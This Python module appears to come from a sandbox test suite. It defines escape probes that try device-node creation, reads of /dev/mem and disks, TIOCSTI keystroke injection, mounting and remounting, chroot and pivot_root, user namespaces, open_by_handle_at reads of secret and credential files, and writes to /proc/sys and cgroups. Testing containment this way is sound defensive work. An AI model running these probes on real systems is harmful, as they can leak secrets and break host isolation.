"""Attacks on files that are none: devices, mounts, other roots, and what /proc and /sys let one write."""

from __future__ import annotations

from ..case import Attack, Group
from .toolkit import python

_MOUNT = r"""
NUMBERS |= {"pivot_root": (155, 41), "move_mount": (429, 429), "mount_setattr": (442, 442), "umount2": (166, 39)}
text = lambda words: ctypes.c_char_p(words.encode())
MS_RDONLY, MS_REMOUNT, MS_BIND, MS_REC = 1, 32, 4096, 16384
os.makedirs("place", exist_ok=True)
place, marker = os.path.abspath("place"), os.path.abspath("place/marker")
open("marker", "w").write("marker")
def mounts():
    return len((attempt(read, "/proc/self/mountinfo", 1 << 20) or b"").splitlines())
def in_child(step):
    "What a step says in a process of its own, whose root and mounts do not matter any more."
    tell, told = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.write(told, str(step() or "").encode()[:200])
        except BaseException as error:
            refused.append(str(error))
        os._exit(0)
    os.close(told)
    os.waitpid(child, 0)
    return os.read(tell, 200)
"""

ATTACKS: tuple[Attack, ...] = (
    python(
        Group.FILES,
        "making device nodes and reading memory and disks through them",
        r"""
disks = [os.stat("/").st_dev, os.stat(os.getcwd()).st_dev, os.makedev(8, 0), os.makedev(254, 0), os.makedev(253, 0)]
nodes = [(stat.S_IFCHR, os.makedev(1, minor)) for minor in (1, 2, 5, 8, 11)]
nodes += [(stat.S_IFCHR, os.makedev(10, minor)) for minor in (200, 229, 232)] + [(stat.S_IFBLK, disk) for disk in disks]
for place in (".", os.environ["TMPDIR"], os.environ["HOME"], "/dev/shm", "/dev", "/tmp"):
    for kind, number in nodes:
        path = f"{place}/outlast-node"
        attempt(os.mknod, path, kind | 0o666, number)
        if os.path.lexists(path):
            keep(path, attempt(read, path, 16) or "made")
            os.unlink(path)
verdict()
""",
    ),
    python(
        Group.FILES,
        "the machine's devices: memory, disks, consoles, kernel messages, virtual machines",
        r"""
names = "mem kmem port kmsg core console tty0 tty1 ttyS0 vcs vcsa sda vda xvda nvme0n1 nvme0 loop0 loop-control"
names += " mapper/control fuse net/tun kvm vhost-net vsock vhost-vsock uinput rtc0 hpet mcelog btrfs-control snapshot"
names += " cpu_dma_latency rfkill userfaultfd nvidiactl nvidia0 dri/card0 snd/timer bus/usb/001/001"
paths = [f"/dev/{name}" for name in names.split()]
paths += [f"/proc/{name}" for name in ("kcore", "kmsg", "kallsyms", "sysrq-trigger")]
there = [os.path.join(base, name) for base, _, names in os.walk("/dev") for name in names]
paths += [path for path in there if stat.S_ISBLK(os.lstat(path).st_mode)]
for path in paths:
    descriptor = attempt(os.open, path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
    if descriptor is not None:
        data = attempt(os.read, descriptor, 4096)
        # The addresses in /proc/kallsyms are 0 for those who may not know them.
        hidden = path.endswith("kallsyms") and set(data[:16]) == {ord("0")}
        keep(path, None if hidden else data or "opened")
    keep(path, attempt(os.open, path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOCTTY))
TIOCSTI = 0x5412
for path in ("/dev/tty", "/dev/console", *glob.glob("/dev/pts/[0-9]*")):
    descriptor = attempt(os.open, path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
    if descriptor is not None:
        keep(f"typing into {path}", libc.ioctl(descriptor, TIOCSTI, ctypes.c_char_p(b"#")) == 0)
verdict()
""",
    ),
    python(
        Group.FILES,
        "mounting over, beside and below the session's files",
        _MOUNT
        + r"""
def seen(how, *words):
    before = mounts()
    attempt(call, "mount", *words)
    keep(how, os.path.exists(marker) or mounts() - before)
none = ctypes.c_char_p(None)
for kind in "tmpfs proc sysfs devpts mqueue cgroup2 overlay fuse securityfs debugfs bpf".split():
    data = text("lowerdir=/etc,upperdir=/tmp,workdir=/tmp") if kind == "overlay" else none
    seen(kind, text("none"), text(place), text(kind), 0, data)
seen("bound", text(os.getcwd()), text(place), none, MS_BIND | MS_REC, none)
seen("bound elsewhere", text(os.getcwd()), text("/data"), none, MS_BIND, none)
seen("moved", text("/proc"), text(place), none, 8192, none)
for way in ("fsopen", "open_tree"):
    before = mounts()
    if way == "fsopen":
        tree = attempt(call, "fsopen", text("tmpfs"), 0)
        if tree is not None:
            attempt(call, "fsconfig", tree, 6, 0, 0, 0)
            tree = attempt(call, "fsmount", tree, 0, 0)
    else:
        tree = attempt(call, "open_tree", -100, text(os.getcwd()), 1)
    if tree is not None:
        keep(way, attempt(os.listdir, tree))
        attempt(call, "move_mount", tree, text(""), -100, text(place), 4)
    keep(way, mounts() - before)
for words in (f"mount -t tmpfs none {place}", f"mount --bind . {place}", "mount -a", "umount -l /proc"):
    before = mounts()
    subprocess.run(words.split(), capture_output=True)
    keep(words, mounts() - before)
verdict()
""",
    ),
    python(
        Group.FILES,
        "making a read-only mount writable",
        _MOUNT
        + r"""
none = ctypes.c_char_p(None)
for root in ("/", "/data", "/etc/hosts", "/sys", "/proc/sys", "/sys/fs/cgroup/memory", "/sys/fs/cgroup"):
    for flags in (MS_REMOUNT, MS_REMOUNT | MS_BIND, MS_REMOUNT | MS_BIND | 0x200000):
        keep(root, attempt(lambda: call("mount", none, text(root), none, flags, none) == 0))
    # Of struct mount_attr: the flag of read-only mounts is taken away.
    attributes = ctypes.create_string_buffer(struct.pack("QQQQ", 0, 1, 0, 0))
    keep(root, attempt(lambda: call("mount_setattr", -100, text(root), 0, attributes, 32) == 0))
    keep(root, attempt(lambda: call("umount2", text(root), 2) == 0) if root != "/" else None)
subprocess.run(["mount", "-o", "remount,rw", "/"], capture_output=True)
attempt(lambda: open("/outlast-attack", "w").close())
keep("the root", os.path.exists("/outlast-attack"))
verdict()
""",
    ),
    python(
        Group.FILES,
        "another root directory",
        _MOUNT
        + r"""
os.makedirs("place/old", exist_ok=True)
def chroot():
    call("chroot", text(place))
    os.chdir("/")
    return None if os.path.exists("/etc/passwd") else "the root is " + str(os.listdir("/"))
def pivot():
    with contextlib.suppress(OSError):
        call("mount", text(place), text(place), ctypes.c_char_p(None), MS_BIND | MS_REC, ctypes.c_char_p(None))
    call("pivot_root", text(place), text(place + "/old"))
    return None if os.path.exists("/etc/passwd") else "the root is " + str(os.listdir("/"))
def new_user_first():
    libc.unshare(0x10000000 | 0x00020000)
    return chroot()
for way in (chroot, pivot, new_user_first):
    keep(way.__name__, in_child(way))
verdict()
""",
    ),
    python(
        Group.FILES,
        "being root in a namespace of its own, and mounting there",
        _MOUNT
        + r"""
NEWUSER, NEWNS, NEWPID, NEWNET = 0x10000000, 0x00020000, 0x20000000, 0x40000000
def rights():
    status = read("/proc/self/status").decode()
    return int(re.search(r"CapEff:\s+(\w+)", status)[1], 16)
def state():
    return [f"{rights():x}", *(os.readlink(f"/proc/self/ns/{kind}") for kind in sorted(os.listdir("/proc/self/ns")))]
before = state()
def changed():
    return [now for now, then in zip(state(), before) if now != then]
# It keeps Python's lock while it calls: a child of `clone` could never take it.
libc = ctypes.PyDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def unshared(flags):
    with contextlib.suppress(OSError):
        call("unshare", flags)
    return changed()
CGROUP, UTS, IPC = 0x02000000, 0x04000000, 0x08000000
for flags in (NEWUSER, NEWUSER | NEWNS, NEWUSER | NEWNET, NEWUSER | NEWPID, NEWNS, NEWNET, CGROUP, UTS, IPC):
    keep(f"unshare {flags:#x}", in_child(lambda: unshared(flags)))
    # With no memory of its own to name, `clone` forks; what follows is the child's.
    child = attempt(call, "clone", flags | signal.SIGCHLD, 0, 0, 0, 0)
    if child == 0:
        os._exit(7 if changed() else 0)
    if child:
        keep(f"clone {flags:#x}", os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))
arguments = ctypes.create_string_buffer(struct.pack("11Q", NEWUSER | NEWNS, 0, 0, 0, signal.SIGCHLD, *[0] * 6))
child = attempt(call, "clone3", arguments, 88)
if child == 0:
    os._exit(7 if changed() else 0)
if child:
    keep("clone3", os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))
for words in (["unshare", "-Ur", "id", "-u"], ["unshare", "-Urm", "mount", "-t", "tmpfs", "none", place]):
    done = subprocess.run(words, capture_output=True)
    keep(words, done.returncode == 0)
verdict()
""",
    ),
    python(
        Group.FILES,
        "opening files by handle, past every directory",
        _MOUNT
        + r"""
class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
for path in ("/", "/etc/passwd", "/etc/hosts", "/data", "/run/secrets/redis_worker", "."):
    handle, mount = Handle(128), ctypes.c_int()
    base = attempt(os.open, path if os.path.isdir(path) else os.path.dirname(path), os.O_RDONLY)
    named = attempt(call, "name_to_handle_at", -100, text(path), ctypes.byref(handle), ctypes.byref(mount), 0)
    if base is not None and named is not None:
        keep(path, attempt(lambda: os.fstat(call("open_by_handle_at", base, ctypes.byref(handle), os.O_RDONLY)).st_ino))
# Without a handle to begin with: the numbers of inodes are small, and 2 is the root of most disks.
for base in ("/etc/hosts", ".", "/data", "/dev/shm"):
    descriptor = attempt(os.open, base, os.O_RDONLY)
    for inode in (2, 128, 256) if descriptor is not None else ():
        handle = Handle(8, 1)
        handle.data[:8] = struct.pack("=II", inode, 0)
        found = attempt(call, "open_by_handle_at", descriptor, ctypes.byref(handle), os.O_RDONLY)
        keep(base, found and attempt(os.listdir, found))
verdict()
""",
    ),
    python(
        Group.FILES,
        "settings of the system and of the control groups",
        r"""
paths = glob.glob("/proc/sys/kernel/*") + glob.glob("/proc/sys/vm/*") + glob.glob("/proc/sys/fs/*")
paths += glob.glob("/sys/fs/cgroup/*.*") + glob.glob("/sys/fs/cgroup/*/*.*") + glob.glob("/sys/kernel/*")
names = "oom_score_adj comm timens_offsets uid_map gid_map setgroups attr/current coredump_filter"
paths += [f"/proc/{pid}/{name}" for pid in (1, os.getppid()) for name in names.split()]
paths += [f"/proc/{name}" for name in "self/uid_map self/gid_map mtrr irq/default_smp_affinity acpi/wakeup".split()]
def same(path):
    "Write what is there already."
    value = read(path, 65536).strip() if os.stat(path).st_mode & 0o444 else b"h"
    descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    return os.write(descriptor, value) if value else "opened"
# Some act when they are written, whatever the value.
ACTING = r"drop_caches|compact_memory|profiling|kexec|force_empty|reset|event_control"
for path in paths:
    if os.path.isfile(path) and not re.search(ACTING, path):
        keep(path, attempt(same, path))
keep("sysrq", attempt(lambda: os.write(os.open("/proc/sysrq-trigger", os.O_WRONLY), b"h")))
for group in glob.glob("/sys/fs/cgroup/*/") + ["/sys/fs/cgroup/"]:
    def grouped():
        os.mkdir(f"{group}outlast-attack")
        os.rmdir(f"{group}outlast-attack")
        return "a group of its own"
    keep(group, attempt(grouped))
    keep(group, attempt(lambda: os.write(os.open(f"{group}cgroup.procs", os.O_WRONLY), str(os.getpid()).encode())))
verdict()
""",
    ),
)
